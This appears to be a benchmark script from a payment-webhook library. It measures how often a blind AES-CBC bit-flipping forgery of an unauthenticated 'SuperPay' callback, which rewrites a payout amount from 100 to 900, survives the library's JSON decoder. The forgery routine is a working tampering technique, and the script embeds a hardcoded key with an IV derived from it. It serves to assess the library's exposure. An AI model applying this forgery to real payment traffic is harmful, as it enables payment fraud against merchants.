#!/usr/bin/env python3
"""How often a blind CBC forgery of a SuperPay callback gets through.

SuperPay's ciphertext has no MAC.  Even with no oracle at all, an attacker
who holds one genuine callback can change the plaintext of block i by
xoring the wanted difference into ciphertext block i-1; block i-1 then
decrypts to 16 bytes nobody can predict.  payhook accepts the result only
if those bytes keep the text one valid JSON object, which in practice means
that block lies inside a long string and the 16 bytes happen to be valid
string content.  This measures that rate with real decodes: each callback
has a long recipient name followed by an amount in the same block; every
try rewrites the amount (100 -> 900) and puts random letters in the name's
last four bytes (so each try's garbage block is a new one), and counts the
forgeries that decode.

    python3 bench/superpay_forgery.py [--tries N] [--callbacks N]

Prints the accepted forgeries per try with a 95% interval; writes
bench/results/superpay_forgery.json.  The callbacks are built with
`cryptography`; the tries go through payhook.superpay.Decoder.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import math
import os
import random
import sys
import time

from cryptography.hazmat.primitives import padding
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

import payhook

HERE = os.path.dirname(os.path.abspath(__file__))
KEY = b"PCd1dlEmFnBXaVce06Pzp7Vike0oHnVJ"


def callback(i: int) -> bytes:
    """A payout callback whose recipient name spans whole blocks and ends
    four bytes into the block that also holds the amount (the vendor's own
    layout has no such field: see the README)."""
    def build(name_len: int) -> bytes:
        return json.dumps({
            "message": "Success",
            "data": {"status": "SUCCESS", "transaction": {"id": 10025 + i},
                     "recipient": {"name": "N" * name_len, "amt": "100",
                                   "phone": "0123456789"}},
        }, separators=(",", ":")).encode()
    for n in range(40, 80):
        plain = build(n)
        end = plain.index(b'","amt":"100"')
        if end % 16 == 4:
            return plain
    raise AssertionError("no layout found")


def encrypt(plain: bytes) -> bytes:
    padder = padding.PKCS7(128).padder()
    data = padder.update(plain) + padder.finalize()
    e = Cipher(algorithms.AES(KEY), modes.CBC(hashlib.md5(KEY).digest()))
    enc = e.encryptor()
    return enc.update(data) + enc.finalize()


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--tries", type=int, default=2_400_000)
    ap.add_argument("--callbacks", type=int, default=20)
    args = ap.parse_args()
    rng = random.Random(1)
    dec = payhook.superpay.Decoder(KEY)
    per = args.tries // args.callbacks
    accepted = 0
    t0 = time.time()
    for i in range(args.callbacks):
        plain = callback(i)
        ct = encrypt(plain)
        end = plain.index(b'","amt":"100"')
        blk = end // 16                         # holds name tail + amount
        # Block blk-1 must lie inside the name for the forgery to have a
        # chance; the name is long enough for that.
        assert plain.index(b'"name":"') + 8 <= (blk - 1) * 16
        want = bytearray(plain[blk * 16:blk * 16 + 16])
        amount = want.index(b"100")
        want[amount] = ord("9")
        prefix = bytes(ct[:(blk - 1) * 16])
        c_prev = ct[(blk - 1) * 16:blk * 16]
        suffix = bytes(ct[blk * 16:])
        head = b'{"encryptedData":"'
        for _ in range(per):
            for j in range(4):                  # the name's last letters
                want[j] = rng.randrange(ord("a"), ord("z") + 1)
            forged = bytes(c ^ p ^ w for c, p, w in
                           zip(c_prev, plain[blk * 16:blk * 16 + 16], want))
            body = head + (prefix + forged + suffix).hex().encode() + b'"}'
            try:
                got = dec.decode(body)
            except payhook.DecryptionError:
                continue
            if got["data"]["recipient"]["amt"] == "900":
                accepted += 1
    tries = per * args.callbacks
    rate = accepted / tries
    # Wilson 95% interval.
    z = 1.96
    centre = (accepted + z * z / 2) / (tries + z * z)
    half = z * math.sqrt(accepted * (tries - accepted) / tries +
                         z * z / 4) / (tries + z * z)
    result = {"tries": tries, "callbacks": args.callbacks,
              "accepted": accepted, "rate": rate,
              "rate_95": [max(0.0, centre - half), centre + half],
              "seconds": round(time.time() - t0, 1)}
    one_in = f"1 in {tries / accepted:,.0f}" if accepted else "none"
    print(f"accepted forgeries: {accepted} of {tries:,} tries ({one_in}; "
          f"95% interval {result['rate_95'][0]:.2e} to "
          f"{result['rate_95'][1]:.2e} per try)")
    os.makedirs(os.path.join(HERE, "results"), exist_ok=True)
    with open(os.path.join(HERE, "results", "superpay_forgery.json"), "w",
              encoding="utf-8") as f:
        json.dump(result, f, indent=1)
    return 0


if __name__ == "__main__":
    sys.exit(main())
